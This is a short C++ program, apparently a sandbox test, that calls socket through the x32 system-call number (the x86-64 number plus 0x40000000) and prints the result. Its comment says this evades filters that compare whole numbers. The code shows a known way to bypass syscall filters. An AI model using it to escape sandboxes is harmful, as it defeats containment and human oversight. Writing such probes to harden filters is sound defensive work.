// The x32 numbers: those of x86-64 with a bit set, which would get past a filter that compares whole numbers.
#include <cstdio>
#include <unistd.h>

int main() {
    char line[4096];
    if (!fgets(line, sizeof line, stdin)) return 1;
    const long result = syscall(0x40000000 + 41 /* socket */, 2, 1, 0);
    printf("worked: %ld\n", result);
    fflush(stdout);
}
